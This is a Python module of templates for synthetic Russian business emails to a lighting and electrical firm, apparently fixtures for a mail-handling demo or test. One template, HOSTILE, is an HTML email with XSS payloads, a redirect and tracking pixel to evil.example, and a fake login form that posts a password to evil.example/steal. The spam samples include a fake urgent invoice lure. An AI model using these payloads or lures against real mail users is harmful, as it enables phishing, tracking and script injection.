"""What people write to the demonstration's house. {service} and {wanted} are of trade.SERVICES."""

GREETINGS = ("Добрый день!", "Здравствуйте!", "Коллеги, добрый день!", "Уважаемые коллеги!", "Доброе утро!")
PARTINGS = ("С уважением,", "С наилучшими пожеланиями,", "--", "Спасибо,", "С уважением и надеждой на ответ,")

REQUESTS = (  # subject, text
    ("Запрос КП: {service}", "Просим направить коммерческое предложение: {service}.\n{wanted}."),
    ("{service}", "Интересует {service}.\n{wanted}.\n\nКогда сможете приехать на объект?"),
    ("Нужна смета", "Подскажите, пожалуйста, стоимость и сроки: {service}.\n{wanted}."),
    ("Заявка", "Прошу принять заявку: {service}. {wanted}. Реквизиты пришлю после согласования."),
    (
        "Тендер: {service}",
        "Приглашаем принять участие.\nПредмет: {service}.\n{wanted}.\nОтвет ждём до пятницы.",
    ),
    ("", "{service}. {wanted}. Перезвоните, пожалуйста."),
)
WITH_FILES = (
    ("Техническое задание: {service}", "Во вложении техническое задание и план.\n{wanted}."),
    ("Реквизиты и спецификация", "Направляю реквизиты и спецификацию: {service}. Ждём счёт."),
    ("Фото щита", "Прикладываю фото. {wanted}. Это срочно!"),
)
REPLIES = (
    "Да, всё верно, согласны. Высылайте договор.",
    "Уточните, пожалуйста, сроки поставки и гарантию.",
    "Дороговато. Возможна ли скидка, если берём всё сразу?",
    "Спасибо! Директор вернётся в понедельник, тогда подтвердим.",
    "Забыл написать: объект охраняемый, на бригаду нужны паспортные данные.",
)
FORMS = (
    "Сколько стоит {service}?",
    "{wanted}. Перезвоните после 15:00.",
    "Хочу заказать: {service}",
)
AWAY = (
    "Здравствуйте!\n\nЯ в отпуске до понедельника. По срочным вопросам пишите на office@{domain}.\n\n{name}",
    "Ваше письмо получено и зарегистрировано. Мы ответим в течение двух рабочих дней.",
)
NEWS = (
    "Светотехника: новости недели",
    "Приглашаем на выставку «Интерсвет»",
    "Скидки до 40 % на кабель и лотки",
)
SPAM = (
    ("Ваш сайт никто не видит", "Поднимем ваш сайт в ТОП-3 за месяц. Первые 50 клиентов — бесплатно!"),
    ("СРОЧНО: счёт на оплату", "Ваш счёт во вложении. Оплатите сегодня, иначе доступ будет закрыт."),
)
FORWARDED = "Перешлите, пожалуйста, кому следует.\n\n{partner}"
BOUNCED = "Не удалось доставить письмо: почтовый ящик получателя переполнен."

HOSTILE = """\
<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body {{ position: fixed; top: 0 }} @import url(https://evil.example/x.css);</style></head>
<body onload="alert(1)">
<p>{greeting}</p><p>{service}. {wanted}.</p>
<script>document.title = "взломано"</script>
<img src="https://evil.example/pixel.gif?who={name}" width="1" height="1">
<svg onload="alert(2)"><a xlink:href="javascript:alert(3)"><text>Прайс</text></a></svg>
<form action="https://evil.example/steal"><input name="password"><button>Войти</button></form>
<a href="javascript:alert(4)">Подробнее</a> <a href="https://shop.example/">Каталог</a>
<p>{name}</p></body></html>
"""
LAID_OUT = """\
<html><body style="font-family: Calibri; color: #1f3864"><p>{greeting}</p>
<p>Прошу рассмотреть: <b>{service}</b>.</p>
<table border="1" cellpadding="4"><tr><th>Наименование</th><th>Кол-во</th></tr>
<tr><td>Светильник линейный 36 Вт</td><td>48</td></tr>
<tr><td>Блок аварийного питания</td><td>6</td></tr></table>
<p>{wanted}.</p><p>--<br>{signature}</p></body></html>
"""
